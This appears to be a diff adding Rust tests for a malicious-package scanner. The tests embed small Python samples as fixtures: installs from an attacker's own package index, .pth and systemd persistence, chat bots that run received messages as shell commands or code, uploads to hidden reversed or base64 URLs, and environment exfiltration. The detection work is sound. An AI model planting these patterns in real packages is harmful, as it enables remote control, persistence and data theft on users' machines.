@@ -1524,7 +1524,19 @@ fn pip_installing_from_an_address_written_in_the_code_is_download_and_run() {
     }
     let at_load = "import os\nos.system('pip install git+https://github.com/someone/helper')\n";
     assert_eq!(severity_of("pkg/__init__.py", at_load, "download-then-run"), Some(Severity::Critical));
+    // An index no project publishes on (plain HTTP, a raw IP, TLS checks
+    // off) is the author's server: the package it names is theirs.
+    for own_index in [
+        "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '--index-url', \
+         'http://pkgs.example.invalid/simple/', 'helper-runtime'])\n",
+        "import os\nos.system('pip install -i https://203.0.113.9/simple helper-runtime')\n",
+        "import os\nos.system('pip install --extra-index-url https://pkgs.example.invalid/simple \
+         --trusted-host pkgs.example.invalid helper-runtime')\n",
+    ] {
+        assert_eq!(severity_of("setup.py", own_index, "download-then-run"), Some(Severity::Critical), "{own_index}");
+    }
     for ordinary in [
+        "import os\ndef add():\n    os.system('pip install -i http://127.0.0.1:3141/simple requests')\n",
         "import subprocess, sys\ndef add():\n    subprocess.run([sys.executable, '-m', 'pip', 'install', 'requests'])\n",
         "import os\ndef add():\n    os.system('pip install -i https://mirror.example/simple requests')\n",
         "import subprocess\ndef add(name):\n    subprocess.run(['pip', 'install', name])\n",
@@ -3042,13 +3054,42 @@ fn a_pth_files_import_lines_are_read_as_code() {
     }
 }
 
+/// A `.pth` file written into site-packages runs its import lines at every
+/// start of Python: written by a helper that the package's `__init__` calls
+/// as it loads, it is the package's own persistence (high); the helper
+/// alone, on request, is medium (an environment manager's job). Written
+/// for the test.
+#[test]
+fn a_pth_file_written_by_a_helper_the_package_calls_as_it_loads_is_persistence() {
+    let hook = "import os, site\ndef register():\n    d = site.getusersitepackages()\n    \
+                with open(os.path.join(d, 'zz_speedups.pth'), 'w') as fh:\n        fh.write('import zz_speedups')\n";
+    assert_eq!(severity_of("pkg/_site.py", hook, "persistence-pth"), Some(Severity::Medium));
+    let init = "from ._site import register\nregister()\n";
+    let report = scan(
+        &ManifestFacts::default(),
+        &[
+            Entry { path: "pkg/__init__.py", bytes: init.as_bytes() },
+            Entry { path: "pkg/_site.py", bytes: hook.as_bytes() },
+        ],
+    );
+    let f = report.findings.iter().find(|f| f.rule == "persistence-pth");
+    assert!(f.is_some_and(|f| f.severity == Severity::High), "{:#?}", report.findings);
+    assert!(f.is_some_and(|f| f.because.iter().any(|b| b.contains("register"))), "{:#?}", report.findings);
+}
+
 /// A plist written into `~/Library/LaunchAgents` (or a desktop file into
-/// `~/.config/autostart`) starts at every login: persistence, high when
-/// the package writes it as it loads; medium when its user asks (a
-/// service manager's "install as a service"). Written for the test.
+/// `~/.config/autostart`, a unit into systemd's folders) starts at every
+/// login: persistence, high when the package writes it as it loads; medium
+/// when its user asks (a service manager's "install as a service").
+/// Written for the test.
 #[test]
 fn a_login_agent_written_is_persistence() {
-    for dir in ["~/Library/LaunchAgents/com.example.helper.plist", "~/.config/autostart/helper.desktop"] {
+    for dir in [
+        "~/Library/LaunchAgents/com.example.helper.plist",
+        "~/.config/autostart/helper.desktop",
+        "~/.config/systemd/user/helper.service",
+        "/etc/systemd/system/helper.service",
+    ] {
         let put = format!(
             "import os\nP = os.path.expanduser('{dir}')\ndef put(body):\n    with open(P, 'w') as f:\n        f.write(body)\n"
         );
@@ -3137,4 +3178,101 @@ fn a_method_of_another_modules_instance_called_while_loading_runs_then() {
     };
     assert_eq!(level("from .store import Store\n_s = Store()\n_s.warm()\n"), Some(Severity::Critical));
     assert_eq!(level("from .store import Store\n_s = Store()\n"), Some(Severity::High));
+}
+
+/// A chat bot's message handler receives what anyone in the chat typed:
+/// run as a command or as code, the bot is a remote control (high on its
+/// own, as what a caller asks for; critical once the package starts it as
+/// it loads). A bot that only answers, and a click command (a command line
+/// typed by its user), are not. Both front-ends. Written for the test.
+#[test]
+fn a_chat_bot_running_what_it_is_sent_is_remote_control() {
+    let discord = "import subprocess, discord\nclient = discord.Client()\n@client.event\n\
+                   async def on_message(msg):\n    if msg.content.startswith('!sh '):\n        \
+                   subprocess.run(msg.content[4:], shell=True)\n";
+    let telebot = "import os, telebot\nbot = telebot.TeleBot(os.environ['T'])\n\
+                   @bot.message_handler(commands=['run'])\ndef run(message):\n    \
+                   bot.reply_to(message, os.popen(message.text.split(' ', 1)[1]).read())\n";
+    let command = "from discord.ext import commands\nbot = commands.Bot(command_prefix='!')\n@bot.command()\n\
+                   async def py(ctx, *, code):\n    exec(code)\n";
+    for (src, rule) in [(discord, "process-decoded"), (telebot, "process-decoded"), (command, "exec-downloaded")] {
+        for src in [src.to_owned(), format!("{src}print 'py2'\n")] {
+            assert_eq!(severity_of("bot/handlers.py", &src, rule), Some(Severity::High), "{src}");
+        }
+    }
+    let starts = "import threading\nfrom . import handlers\n\
+                  threading.Thread(target=handlers.client.run, args=('x',)).start()\n";
+    let with_py = format!("{discord}    elif msg.content.startswith('!py '):\n        exec(msg.content[4:])\n");
+    let report = scan(
+        &ManifestFacts::default(),
+        &[
+            Entry { path: "bot/__init__.py", bytes: starts.as_bytes() },
+            Entry { path: "bot/handlers.py", bytes: with_py.as_bytes() },
+        ],
+    );
+    assert!(report.risk_level >= RiskLevel::High, "{:#?}", report.findings);
+    let ping = "import discord\nclient = discord.Client()\n@client.event\nasync def on_message(msg):\n    \
+                if msg.content == '!ping':\n        await msg.channel.send('pong')\n";
+    let click = "import subprocess, click\n@click.command()\n@click.argument('cmd')\ndef run(cmd):\n    \
+                 subprocess.run(cmd, shell=True)\n";
+    for ordinary in [ping, click] {
+        let report = scan(&ManifestFacts::default(), &[Entry { path: "tool/cli.py", bytes: ordinary.as_bytes() }]);
+        assert!(report.risk_level < RiskLevel::High, "{ordinary}\n{:#?}", report.findings);
+    }
+}
+
+/// A file uploaded to an address the code decodes at run time (a reversed
+/// or base64 URL) goes where the author hid: high, whatever the file. The
+/// same upload to an address written out is how a client sends its user's
+/// file to a service. Written for the test.
+#[test]
+fn a_file_uploaded_to_a_hidden_address_is_exfiltration() {
+    let revit = "from System.Net import WebClient\nE = 'ledom/daolpu/moc.elpmaxe.tcelloc//:sptth'\n\
+                 def cloud_copy(doc):\n    WebClient().UploadFile(E[::-1], 'POST', doc.PathName)\n";
+    let files = "import base64, requests\nU = base64.b64decode('aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUuaW52YWxpZC91')\n\
+                 def backup(path):\n    requests.post(U, files={'f': open(path, 'rb')})\n";
+    for src in [revit, files] {
+        assert_eq!(severity_of("lib/backup.py", src, "exfiltration"), Some(Severity::High), "{src}");
+    }
+    let open = "import requests\ndef backup(path):\n    \
+                requests.post('https://api.example.org/upload', files={'f': open(path, 'rb')})\n";
+    let report = scan(&ManifestFacts::default(), &[Entry { path: "lib/backup.py", bytes: open.as_bytes() }]);
+    assert!(report.risk_level < RiskLevel::High, "{:#?}", report.findings);
+}
+
+/// A lambda called where it is written (`(lambda s: exec(s))(decoded)`)
+/// binds its parameters to the arguments, as a function call does: the
+/// decoded code reaches `exec`. A lambda handed plain text runs nothing
+/// hidden. Both front-ends. Written for the test.
+#[test]
+fn a_lambda_called_in_place_receives_its_arguments() {
+    let hidden = "import base64\ndef _register(cls):\n    \
+                  (lambda s: exec(compile(s, '<p>', 'exec'), {}))(base64.b64decode('cHJpbnQoMSk='))\n    return cls\n";
+    for src in [hidden.to_owned(), format!("{hidden}print 'py2'\n")] {
+        assert!(severity_of("pkg/_palette.py", &src, "exec-decoded").is_some_and(|s| s >= Severity::High), "{src}");
+    }
+    let plain = "def show(cls):\n    (lambda s: print(s.upper()))(cls.__name__)\n    return cls\n";
+    let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/show.py", bytes: plain.as_bytes() }]);
+    assert!(report.risk_level < RiskLevel::Medium, "{:#?}", report.findings);
+}
+
+/// A process's options handed over as a dictionary (`Popen(cmd, **kw)`
+/// with `kw = {"env": os.environ.copy(), ...}`) configure the child, as
+/// `env=` does: the process handle it gives back holds none of the
+/// environment, so a request naming the process sends no environment.
+/// Both front-ends. Written for the test.
+#[test]
+fn a_process_started_with_an_options_dictionary_does_not_carry_its_environment() {
+    let src = "import os, subprocess, urllib.request\n\
+               def start(cmd):\n    env = os.environ.copy()\n    kw = {'env': env, 'stdout': subprocess.DEVNULL}\n    \
+               return subprocess.Popen(cmd, **kw)\n\
+               def main():\n    proc = start(['server'])\n    \
+               urllib.request.urlopen('https://api.example.org/status?pid=' + str(proc.pid))\n";
+    for src in [src.to_owned(), format!("{src}print 'py2'\n")] {
+        assert_eq!(severity_of("tool/cli.py", &src, "exfiltration"), None, "{src}");
+    }
+    // The environment itself sent is still what it is.
+    let sent = "import os, urllib.request\ndef main():\n    \
+                urllib.request.urlopen('https://api.example.org/s', data=str(dict(os.environ)).encode())\n";
+    assert!(severity_of("tool/cli.py", sent, "exfiltration").is_some_and(|s| s >= Severity::High));
 }
